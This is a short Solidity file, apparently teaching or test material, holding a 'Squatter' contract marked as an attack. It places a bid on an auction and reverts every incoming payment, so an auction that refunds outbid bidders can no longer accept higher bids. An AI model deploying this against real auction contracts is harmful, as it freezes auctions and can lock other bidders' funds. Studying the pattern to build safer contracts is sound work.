// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IAuction {
    function bid() external payable;
}

// #region attack
contract Squatter {
    error NoRefundsPlease();

    function squat(IAuction auction) external payable {
        auction.bid{value: msg.value}();
    }

    receive() external payable {
        revert NoRefundsPlease();
    }
}
// #endregion attack
